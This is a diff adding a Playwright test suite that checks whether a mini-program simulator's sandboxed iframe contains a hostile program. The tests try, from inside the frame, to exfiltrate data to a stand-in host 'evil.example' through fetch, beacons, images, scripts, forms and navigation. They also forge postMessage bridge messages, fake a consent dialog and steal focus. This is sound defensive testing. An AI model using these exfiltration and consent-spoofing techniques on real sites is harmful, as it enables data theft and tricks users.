@@ -1,0 +1,246 @@
+import { expect, test } from '@playwright/test';
+import { SimulatorPage } from './simulator-page.ts';
+
+/** The mini program is untrusted: each attack is really tried from inside the frame. */
+test.describe('the frame is a boundary', () => {
+  let simulator: SimulatorPage;
+  test.beforeEach(async ({ page }) => {
+    simulator = new SimulatorPage(page);
+    await simulator.open({ program: 'hostile', code: 'SECRET' });
+  });
+  const alive = async () => {
+    await expect(simulator.inspector).toBeVisible();
+    expect(await simulator.page.evaluate(() => 1 + 1)).toBe(2);
+  };
+
+  test('it runs in a process of its own, with an opaque origin', async ({ page, browser }) => {
+    const frame = await simulator.frame();
+    expect(await frame.evaluate(() => self.origin)).toBe('null');
+    const session = await browser.newBrowserCDPSession();
+    const { targetInfos } = await session.send('Target.getTargets');
+    expect(
+      targetInfos.some((target) => target.type === 'iframe' && target.url.includes('hostile.localhost')),
+    ).toBe(true);
+    expect(page.frames()).toHaveLength(2);
+  });
+
+  test('it cannot reach the host’s page, storage or URL', async () => {
+    const frame = await simulator.frame();
+    const seen = await frame.evaluate(() => {
+      const tried = (what: () => unknown) => {
+        try {
+          return String(what());
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      return {
+        document: tried(() => parent.document.title),
+        top: tried(() => top?.document.body),
+        indexedDB: tried(() => indexedDB.open('x') && 'opened'),
+        miniauth: tried(() => (parent as unknown as { miniauth: unknown }).miniauth),
+        frame: tried(() => window.frameElement),
+        referrer: document.referrer,
+        base: document.baseURI,
+        name: window.name,
+      };
+    });
+    expect(seen.document).toBe('SecurityError');
+    expect(seen.top).toBe('SecurityError');
+    expect(seen.indexedDB).toBe('SecurityError');
+    expect(seen.miniauth).toBe('SecurityError');
+    expect(['null', 'SecurityError']).toContain(seen.frame);
+    expect(seen.name).toBe('');
+    expect(JSON.stringify(seen)).not.toContain('SECRET');
+  });
+
+  test('it cannot fetch past the gate', async ({ page }) => {
+    const asked: string[] = [];
+    page.on('request', (request) => {
+      if (!request.url().includes('localhost')) asked.push(request.url());
+    });
+    const frame = await simulator.frame();
+    await frame.evaluate(async () => {
+      const url = 'https://evil.example/steal';
+      await fetch(url).catch(() => undefined);
+      navigator.sendBeacon?.(url);
+      new Image().src = url;
+      const script = document.createElement('script');
+      script.src = url;
+      document.head.append(script);
+      const form = document.createElement('form');
+      form.action = url;
+      document.body.append(form);
+      form.submit();
+      const nested = document.createElement('iframe');
+      nested.src = url;
+      document.body.append(nested);
+    });
+    await expect.poll(() => simulator.notices()).toContain('blocked');
+    expect(asked).toEqual([]);
+    expect(await simulator.steps()).toContain('merchant.request');
+  });
+
+  test('navigating itself away ends the run, with a notice, and reaches nobody', async ({ page }) => {
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    const frame = await simulator.frame();
+    await frame.evaluate(() => {
+      location.href = 'https://evil.example/?stolen';
+    });
+    await expect.poll(() => simulator.notices()).toContain('navigatedAway');
+    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
+    expect(await page.evaluate(() => window.miniauth?.current)).toBeNull();
+    await alive();
+  });
+
+  test('it cannot navigate, close or open windows', async ({ page, context }) => {
+    const frame = await simulator.frame();
+    const url = page.url();
+    const opened = await frame.evaluate(() => {
+      const tried = (what: () => unknown) => {
+        try {
+          return what() === null ? 'null' : 'done';
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      return [
+        tried(() => {
+          if (top) top.location.href = 'https://evil.example/';
+        }),
+        tried(() => window.open('https://evil.example/')),
+        tried(() => top?.close()),
+      ];
+    });
+    expect(opened[0]).toBe('SecurityError');
+    expect(opened[1]).toBe('null');
+    expect(page.url()).toBe(url);
+    expect(context.pages()).toHaveLength(1);
+    await alive();
+  });
+
+  test('an endless loop leaves the host usable, and Stop ends it', async ({ page }) => {
+    const frame = await simulator.frame();
+    await frame.evaluate(() => {
+      new MessageChannel().port1.postMessage(0);
+      const { port1, port2 } = new MessageChannel();
+      port1.onmessage = () => {
+        for (;;);
+      };
+      port2.postMessage('go');
+    });
+    await page.getByRole('tab', { name: 'State' }).click();
+    await expect(page.getByRole('tab', { name: 'State' })).toHaveAttribute('aria-selected', 'true');
+    await simulator.device
+      .getByRole('button', { name: /stop/i })
+      .or(page.getByRole('button', { name: 'Stop' }))
+      .first()
+      .click();
+    await expect(simulator.device.locator('iframe')).toHaveCount(0);
+    await simulator.start({ program: 'shop' });
+    await expect(simulator.program.getByRole('button', { name: 'Sign in' })).toBeVisible();
+  });
+
+  test('a flood of messages ends the run with a notice', async () => {
+    const frame = await simulator.frame();
+    await frame
+      .evaluate(() => {
+        const { my } = window as unknown as { my: { getStorageSync(o: object): unknown } };
+        for (let i = 0; i < 50_000; i++) my.getStorageSync({ key: 'x' });
+      })
+      .catch(() => undefined);
+    await expect.poll(() => simulator.notices()).toContain('flood');
+    await alive();
+  });
+
+  test('window messages are not the bridge: forged hellos, ports and junk change nothing', async () => {
+    const frame = await simulator.frame();
+    await frame.evaluate(() => {
+      parent.postMessage({ miniauth: 'hello' }, '*');
+      parent.postMessage({ miniauth: 'hello', nonce: 7, url: [] }, '*');
+      parent.postMessage('call 1 getAuthCode {"scopes":["auth_user"]}', '*');
+      parent.postMessage({ miniauth: 'port', nonce: 'x' }, '*', [new MessageChannel().port1]);
+    });
+    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
+    await simulator.agree();
+    await expect(simulator.program.locator('#result')).toHaveText('granted 13');
+  });
+
+  test('it cannot answer its own consent dialog, nor cover it', async ({ page }) => {
+    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
+    const agree = simulator.dialog.getByRole('button', { name: 'Agree' });
+    await expect(agree).toBeVisible();
+    const frame = await simulator.frame();
+    await frame.evaluate(() => {
+      document.body.innerHTML = '<dialog id="fake" style="width:100vw;height:100vh">Agree</dialog>';
+      (document.getElementById('fake') as HTMLDialogElement).showModal();
+      parent.postMessage({ ending: 'agree', scopes: ['auth_user'] }, '*');
+    });
+    const box = await agree.boundingBox();
+    const onTop = await page.evaluate(
+      ({ x, y }) => document.elementFromPoint(x, y)?.closest('dialog') !== null,
+      { x: (box?.x ?? 0) + 5, y: (box?.y ?? 0) + 5 },
+    );
+    expect(onTop).toBe(true);
+    // A click that a script makes is no answer.
+    await agree.evaluate((button) => (button as HTMLButtonElement).click());
+    await expect(simulator.dialog).toBeVisible();
+    expect((await simulator.steps()).includes('wallet.submitConsent')).toBe(false);
+  });
+
+  test('a double click on the program does not land on Agree', async ({ page }) => {
+    await page.evaluate(() => window.miniauth?.setPolicies({ consentArming: 500 }));
+    const button = simulator.program.getByRole('button', { name: 'Ask for consent' });
+    await button.click();
+    const agree = simulator.dialog.getByRole('button', { name: 'Agree' });
+    const box = await agree.boundingBox();
+    await page.mouse.click((box?.x ?? 0) + 10, (box?.y ?? 0) + 10);
+    await expect(simulator.dialog).toBeVisible();
+    expect(await simulator.steps()).not.toContain('wallet.submitConsent');
+  });
+
+  test('stealing the keyboard from the dialog is noticed, and in the end the dialog is refused', async ({
+    page,
+  }) => {
+    await page.evaluate(() => window.miniauth?.setPolicies({ focusThefts: 2 }));
+    await simulator.program.getByRole('button', { name: 'Ask for consent' }).click();
+    await expect(simulator.dialog).toBeVisible();
+    const frame = await simulator.frame();
+    await frame.evaluate(() => {
+      const input = document.createElement('input');
+      document.body.append(input);
+      setInterval(() => {
+        window.focus();
+        input.focus();
+      }, 20);
+    });
+    await expect.poll(() => simulator.notices()).toContain('focusTheft');
+    await expect.poll(() => simulator.notices()).toContain('focusTheftRefused');
+    await expect(simulator.dialog).toBeHidden();
+    await expect(simulator.program.locator('#result')).toHaveText(/^refused /);
+  });
+
+  test('powerful features are off', async () => {
+    const frame = await simulator.frame();
+    const allowed = await frame.evaluate(() => {
+      const policy = (document as unknown as { featurePolicy?: { allowedFeatures(): string[] } })
+        .featurePolicy;
+      return policy?.allowedFeatures() ?? [];
+    });
+    for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'clipboard-read'])
+      expect(allowed).not.toContain(feature);
+  });
+
+  test('a program that never says hello is stopped with a notice', async ({ page }) => {
+    await page.route('**/guest.js', (route) => route.fulfill({ contentType: 'text/javascript', body: '' }));
+    const failed = await page.evaluate(() =>
+      window.miniauth?.open({ program: 'shop' }).then(
+        () => 'started',
+        (error: Error) => error.message,
+      ),
+    );
+    expect(failed).toContain('noHello');
+    expect(await simulator.notices()).toContain('noHello');
+  });
+});
